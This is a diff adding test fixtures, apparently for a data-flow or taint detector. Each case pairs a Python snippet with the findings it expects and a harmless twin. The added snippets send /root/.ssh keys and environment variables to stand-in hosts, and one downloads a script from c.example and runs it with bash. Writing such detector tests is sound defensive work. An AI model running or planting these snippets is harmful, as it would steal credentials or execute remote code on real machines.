@@ -162,6 +162,30 @@ const TWINS: readonly Twins[] = [
     "import os\n@app.get('/x/{name}')\ndef v(name: int):\n  os.system('ls ' + str(name))",
   ],
   [
+    'a property, and a function that a decorator wraps',
+    `import requests\nclass C:\n  @property\n  def k(self): return open('/root/.ssh/id_rsa').read()\ndef twice(f):\n  def w(): requests.post(u, data=f())\n  return w\n@twice\ndef load(): return C().k\nload()`,
+    SENT,
+    `import requests\nclass C:\n  @property\n  def k(self): return open('/root/.ssh/id_rsa').read()\n  n = 1\ndef twice(f):\n  def w(): requests.post(u, data=f())\n  return w\n@twice\ndef load(): return C().n\nload()`,
+  ],
+  [
+    'a folder that is walked',
+    `import os, requests\nfor at, _, names in os.walk('/root/.ssh'):\n  for name in names:\n    requests.post(u, data=open(os.path.join(at, name)).read())`,
+    ['secret /root/.ssh -> requests.post', 'secret /root/.ssh -> open'],
+    `import os, requests\nfor at, _, names in os.walk('reports'):\n  for name in names:\n    requests.post(u, data=open(os.path.join(at, name)).read())`,
+  ],
+  [
+    'a file that the program itself writes',
+    "import requests, subprocess\nopen('/tmp/x.sh', 'w').write(requests.get('https://c.example/x').text)\nsubprocess.run(['bash', '/tmp/x.sh'])",
+    ['network-reply https://c.example/x -> open', 'network-reply https://c.example/x -> subprocess.run'],
+    "import requests, subprocess\nopen('/tmp/x.sh', 'w').write('ls')\nprint(requests.get('https://c.example/x').text)\nsubprocess.run(['bash', '/tmp/x.sh'])",
+  ],
+  [
+    'an address as well as a body',
+    "import os, requests, urllib.parse\nrequests.get('http://h.example/?' + urllib.parse.urlencode(os.environ))",
+    ['environment * -> requests.get'],
+    "import os, requests, urllib.parse\nrequests.get('http://h.example/?' + urllib.parse.urlencode({'n': len(os.environ)}))",
+  ],
+  [
     'what is written to a file that was opened before',
     "import requests\nr = requests.get('https://c.example/x')\nwith open('x.py', 'w') as f:\n  f.write(r.text)",
     ['network-reply https://c.example/x -> open'],
